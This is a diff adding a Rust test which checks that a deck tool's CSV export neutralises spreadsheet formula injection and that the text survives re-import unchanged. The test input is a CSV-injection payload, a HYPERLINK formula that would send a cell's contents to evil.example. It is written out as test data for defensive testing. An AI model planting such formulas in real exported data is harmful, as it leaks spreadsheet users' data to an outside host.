@@ -252,3 +252,44 @@ fn anki_imports_progress_with_the_apkg() {
 fn builtin_claims() -> usize {
     steppe::content::Deck::builtin().unwrap().claims.len()
 }
+
+#[test]
+fn a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_and_read_back_whole() {
+    let tmp = tempfile::tempdir().unwrap();
+    let deck = tmp.path().join("deck");
+    copy_dir(Path::new("content"), &deck);
+    let claims = deck.join("claims/001-breakthrough-2015.toml");
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click") "#;
+    let edited = std::fs::read_to_string(&claims).unwrap().replacen(
+        "\ntext = \"",
+        &format!("\ntext = \"{}", formula.replace('"', "\\\"")),
+        1,
+    );
+    std::fs::write(&claims, edited).unwrap();
+    let data = tmp.path().join("data");
+    let table = tmp.path().join("deck.csv");
+    export(&data, "csv", Some(&deck), &table);
+
+    // Read as a spreadsheet or any CSV reader would: no cell starts a formula.
+    let text = std::fs::read_to_string(&table).unwrap();
+    let body: String = text.lines().filter(|l| !l.starts_with('#')).map(|l| format!("{l}\n")).collect();
+    let mut reader = csv::ReaderBuilder::new().delimiter(b'\t').has_headers(false).from_reader(body.as_bytes());
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        cells.extend(record.unwrap().iter().map(str::to_owned));
+    }
+    assert!(cells.len() > 1000, "the table was read: {} cells", cells.len());
+    for cell in &cells {
+        assert!(!cell.starts_with(['=', '+', '-', '@']), "a cell a spreadsheet would run: {cell}");
+    }
+    assert!(cells.iter().any(|c| c.starts_with(&format!("'{formula}"))), "the formula is kept as text");
+
+    // Imported again, the text is the claim's own.
+    let before = tmp.path().join("before.json");
+    export(&data, "json", Some(&deck), &before);
+    steppe(&data).arg("import").arg(&table).assert().success();
+    let after = tmp.path().join("after.json");
+    export(&data, "json", Some(&data.join("decks/mongolia-koreas")), &after);
+    assert_eq!(claims_json(&before), claims_json(&after));
+    assert!(claims_json(&after).to_string().contains("=HYPERLINK"), "the formula's words are the claim's text");
+}
